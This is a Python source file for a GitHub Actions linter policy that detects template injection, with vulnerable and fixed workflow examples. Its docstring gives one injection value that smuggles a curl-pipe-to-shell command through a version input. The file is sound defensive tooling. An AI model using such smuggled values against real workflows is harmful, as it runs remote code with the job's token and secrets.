from collections.abc import Iterator

from aurora_devops import Finding, bad, good, policy
from aurora_devops.kinds.github import Expression
from aurora_devops.kinds.github.untrusted import flowing, is_code, is_input, is_written_outside, sources

from ._edits import in_environment


@policy(
    "GHA076",
    severity="warning",
    category="security",
    equivalents={"zizmor": "template-injection"},
    examples=[
        bad(
            """\
            on:
              workflow_dispatch:
                inputs:
                  version:
                    type: string
            jobs:
              release:
                runs-on: ubuntu-24.04
                steps:
                  - run: make release VERSION="${{ «inputs.version» }}"
            """,
            fixed="""\
            on:
              workflow_dispatch:
                inputs:
                  version:
                    type: string
            jobs:
              release:
                runs-on: ubuntu-24.04
                steps:
                  - run: make release VERSION="${INPUTS_VERSION}"
                    env:
                      INPUTS_VERSION: ${{ inputs.version }}
            """,
        ),
        bad(
            """\
            name: Greet
            description: Greets
            inputs:
              who:
                description: whom
            runs:
              using: composite
              steps:
                - run: echo "${{ «inputs.who» }}"
                  shell: bash
            """,
            fixed="""\
            name: Greet
            description: Greets
            inputs:
              who:
                description: whom
            runs:
              using: composite
              steps:
                - run: echo "${INPUTS_WHO}"
                  env:
                    INPUTS_WHO: ${{ inputs.who }}
                  shell: bash
            """,
            kind="github-action",
        ),
        bad(
            """\
            on:
              workflow_dispatch:
                inputs:
                  version:
                    type: string
            jobs:
              release:
                runs-on: ubuntu-24.04
                steps:
                  - run: |
                      make release VERSION="${{ «inputs.version» }}"
                      make publish VERSION="${{ inputs.version }}"
            """,
            because="one finding for each script",
        ),
        good(
            """\
            on:
              workflow_dispatch:
                inputs:
                  version:
                    type: string
                  level:
                    type: choice
                    options: [minor, major]
            jobs:
              release:
                runs-on: ubuntu-24.04
                steps:
                  - run: make release VERSION="$VERSION" LEVEL=${{ inputs.level }}
                    env:
                      VERSION: ${{ inputs.version }}
            """,
            because="a choice has a closed set of values, and the shell quotes the variable",
        ),
        good(
            """\
            on: pull_request
            jobs:
              comment:
                runs-on: ubuntu-24.04
                steps:
                  - run: gh pr comment "${{ github.event.pull_request.html_url }}" --body-file plan.txt
                  - run: git remote add fork ${{ github.event.pull_request.head.repo.clone_url }}
            """,
            because="GitHub makes the addresses of the number of the pull request and the name of the repository",
        ),
        bad(
            """\
            on: release
            jobs:
              announce:
                runs-on: ubuntu-24.04
                steps:
                  - run: ./announce.sh ${{ «github.event.release.html_url» }}
            """,
            because="the address has the name of the tag",
        ),
    ],
)
def input_in_script(expression: Expression) -> Iterator[Finding]:
    """An input or a value of the event is expanded into a script before it runs.

    The caller decides the value: `1"; curl https://example.com/x | sh; "` as a version runs commands with the
    token and the secrets of the job, and a quote in a harmless value breaks the script.
    Pass the value in an environment variable and quote that.
    Reported once for each expression in a script. Inputs of the types `boolean`, `number`, `choice` and `environment`
    are not reported, nor are inputs that each caller in the repository sets to a constant.
    The fix passes a value that the shell expands as an argument in a variable of the step; its name may not be the
    best one, so the fix is not applied by default.

    https://docs.github.com/en/actions/concepts/security/script-injections
    """
    if expression.repeated or not is_code(expression) or expression.tree is None:
        return
    for way, tree in flowing(expression.tree):
        ends = list(sources(expression, way))
        if any(is_written_outside(end, expression) for end in ends):
            continue
        if not any(is_input(expression, end) for end in ends):
            continue
        said = expression.text[tree.start : tree.end]
        message = f"'{said}' is expanded into the script; pass it in an environment variable"
        fix = in_environment(expression) if tree == expression.tree else None
        yield Finding(at=expression.part(tree.start, tree.end), message=message, fix=fix)
